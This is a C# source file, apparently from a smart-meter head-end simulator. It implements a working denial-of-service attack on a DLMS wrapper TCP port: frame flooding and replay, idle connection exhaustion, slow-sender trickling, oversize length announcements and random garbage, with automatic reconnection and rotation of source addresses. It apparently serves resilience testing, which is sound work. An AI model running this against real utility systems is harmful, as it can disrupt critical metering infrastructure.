using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using Meterline.Dlms.Wrapper;

namespace Meterline.Simulator.Attacks;

/// <summary>
/// Attacks a head-end's DLMS wrapper push port over TCP (<c>tcp://host:port</c>, IEC 62056-47) with
/// <see cref="AttackOptions.Connections"/> connections from the <see cref="AttackOptions.SourceAddresses"/> in turn.
/// Each connection the target closes is counted and opened again after a short pause, until the duration is over:
/// <list type="bullet">
/// <item>flood and replay: wrapper frames (see <see cref="AttackFrameSource"/>) at <see cref="AttackOptions.Rate"/> in all;</item>
/// <item>idle connections: connect and send nothing;</item>
/// <item>slow sender: a header announcing a 64-byte APDU, then one byte a second;</item>
/// <item>oversize announcement: a header announcing 65,535 bytes, then nothing (odd connections) or 1 KiB chunks of
/// random bytes at the rate (even ones);</item>
/// <item>garbage: 256-byte chunks of random bytes at the rate.</item>
/// </list>
/// </summary>
public sealed class TcpWrapperAttack(TimeProvider? time = null) : IAttackTransport
{
    /// <summary>Connects in progress at once (so that thousands of idle connections do not overrun the target's listen backlog).</summary>
    public const int MaxConcurrentConnects = 64;

    /// <summary>The pause before a connection the target closed (or refused) is opened again.</summary>
    public static TimeSpan ReconnectPause { get; } = TimeSpan.FromMilliseconds(100);

    private readonly TimeProvider _time = time ?? TimeProvider.System;

    public string Scheme => "tcp";

    public bool Supports(AttackKind kind) => Enum.IsDefined(kind);

    public async Task<AttackReport> RunAsync(AttackOptions options, CancellationToken cancellationToken = default)
    {
        ArgumentNullException.ThrowIfNull(options);
        if (options.Kind == AttackKind.Replay && options.Frames.Count == 0)
        {
            throw new ArgumentException("A replay needs captured frames (AttackOptions.Frames).", nameof(options));
        }

        var target = AttackSockets.Endpoint(options.Target);
        using var run = new AttackRun(options, _time, cancellationToken);
        using var frames = new AttackFrameSource(options, _time);
        using var connects = new SemaphoreSlim(MaxConcurrentConnects);
        var perConnection = options.Rate / options.Connections;
        return await run.LoopsAsync(options.Connections, index => ConnectionLoopAsync(run, target, index, connects, socket => options.Kind switch
        {
            AttackKind.Flood or AttackKind.Replay => SendFramesAsync(run, socket, frames, perConnection),
            AttackKind.IdleConnections => HoldAsync(run, socket),
            AttackKind.SlowSender => TrickleAsync(run, socket),
            AttackKind.OversizeAnnouncement => AnnounceOversizeAsync(run, socket, perConnection, garbage: index % 2 == 0),
            _ => SendGarbageAsync(run, socket, perConnection),
        })).ConfigureAwait(false);
    }

    /// <summary>Connects, runs <paramref name="attack"/> until the target closes the connection, and connects again, until the attack is over.</summary>
    private static async Task ConnectionLoopAsync(AttackRun run, IPEndPoint target, int index, SemaphoreSlim connects, Func<Socket, Task> attack)
    {
        var source = AttackSockets.SourceFor(run.Options.SourceAddresses, index);
        while (!run.Stopping.IsCancellationRequested)
        {
            Socket? socket;
            await connects.WaitAsync(run.Stopping).ConfigureAwait(false);
            try
            {
                socket = await AttackSockets.ConnectAsync(target, source, run.Stopping).ConfigureAwait(false);
            }
            finally
            {
                connects.Release();
            }

            if (socket is null)
            {
                run.Counters.OnError();
            }
            else
            {
                using (socket)
                {
                    run.Counters.OnOpened();
                    try
                    {
                        await attack(socket).ConfigureAwait(false);
                    }
                    catch (Exception e) when (e is SocketException or ObjectDisposedException)
                    {
                        run.Counters.OnClosedByTarget();
                    }
                }
            }

            if (!await run.PauseAsync(ReconnectPause).ConfigureAwait(false))
            {
                return;
            }
        }
    }

    private static async Task SendFramesAsync(AttackRun run, Socket socket, AttackFrameSource frames, double rate)
    {
        var pacer = new AttackPacer(rate, run.Time);
        var buffer = new List<byte>();
        while (true)
        {
            var due = await pacer.WaitAsync(run.Stopping).ConfigureAwait(false);
            buffer.Clear();
            for (var i = 0; i < due; i++)
            {
                buffer.AddRange(new WrapperFrame(1, 1, frames.Next()).ToArray());
            }

            await SendAsync(run, socket, buffer.ToArray()).ConfigureAwait(false);
            run.Counters.OnSent(due);
        }
    }

    /// <summary>Holds the connection open and silent until the target closes it (a read returns 0) or the attack is over.</summary>
    private static async Task HoldAsync(AttackRun run, Socket socket)
    {
        await UntilClosedAsync(socket, run.Stopping).ConfigureAwait(false);
        run.Counters.OnClosedByTarget();
    }

    private static async Task UntilClosedAsync(Socket socket, CancellationToken cancellationToken)
    {
        var buffer = new byte[256];
        while (await socket.ReceiveAsync(buffer, SocketFlags.None, cancellationToken).ConfigureAwait(false) > 0)
        {
        }
    }

    private static async Task TrickleAsync(AttackRun run, Socket socket)
    {
        var closed = WatchAsync(run, socket);
        var frame = new WrapperFrame(1, 1, RandomNumberGenerator.GetBytes(64)).ToArray();
        await SendAsync(run, socket, frame.AsMemory(0, WrapperFrame.HeaderLength)).ConfigureAwait(false);
        run.Counters.OnSent();
        for (var i = WrapperFrame.HeaderLength; !closed.IsCompleted; i = i + 1 < frame.Length ? i + 1 : 0)
        {
            if (!await run.PauseAsync(TimeSpan.FromSeconds(1)).ConfigureAwait(false))
            {
                return;
            }

            await SendAsync(run, socket, frame.AsMemory(i, 1)).ConfigureAwait(false);
        }

        await closed.ConfigureAwait(false);
        if (!run.Stopping.IsCancellationRequested)
        {
            run.Counters.OnClosedByTarget();
        }
    }

    private static async Task AnnounceOversizeAsync(AttackRun run, Socket socket, double rate, bool garbage)
    {
        var header = new byte[WrapperFrame.HeaderLength];
        WrapperFrame.WriteHeader(header, 1, 1, ushort.MaxValue);
        await SendAsync(run, socket, header).ConfigureAwait(false);
        run.Counters.OnSent();
        if (!garbage)
        {
            await HoldAsync(run, socket).ConfigureAwait(false);
            return;
        }

        var pacer = new AttackPacer(rate, run.Time);
        var chunk = new byte[1024];
        var body = 0;
        while (true)
        {
            var due = await pacer.WaitAsync(run.Stopping).ConfigureAwait(false);
            for (var i = 0; i < due; i++)
            {
                RandomNumberGenerator.Fill(chunk);
                await SendAsync(run, socket, chunk).ConfigureAwait(false);
                body += chunk.Length;
                if (body >= ushort.MaxValue)
                {
                    await SendAsync(run, socket, header).ConfigureAwait(false);
                    run.Counters.OnSent();
                    body = 0;
                }
            }
        }
    }

    private static async Task SendGarbageAsync(AttackRun run, Socket socket, double rate)
    {
        var pacer = new AttackPacer(rate, run.Time);
        var chunk = new byte[256];
        while (true)
        {
            var due = await pacer.WaitAsync(run.Stopping).ConfigureAwait(false);
            for (var i = 0; i < due; i++)
            {
                RandomNumberGenerator.Fill(chunk);
                if (chunk[0] == 0 && chunk[1] == 1)
                {
                    // Never a wrapper version by chance.
                    chunk[1] = 0xFF;
                }

                await SendAsync(run, socket, chunk).ConfigureAwait(false);
            }

            run.Counters.OnSent(due);
        }
    }

    /// <summary>Completes when the target closes the connection (or the attack is over).</summary>
    private static Task WatchAsync(AttackRun run, Socket socket) => Task.Run(async () =>
    {
        try
        {
            await UntilClosedAsync(socket, run.Stopping).ConfigureAwait(false);
        }
        catch (Exception e) when (e is SocketException or ObjectDisposedException or OperationCanceledException)
        {
        }
    });

    /// <summary>Writes all of <paramref name="bytes"/>; a socket error means the target closed the connection.</summary>
    private static async Task SendAsync(AttackRun run, Socket socket, ReadOnlyMemory<byte> bytes)
    {
        while (!bytes.IsEmpty)
        {
            var sent = await socket.SendAsync(bytes, SocketFlags.None, run.Stopping).ConfigureAwait(false);
            bytes = bytes[sent..];
        }
    }
}
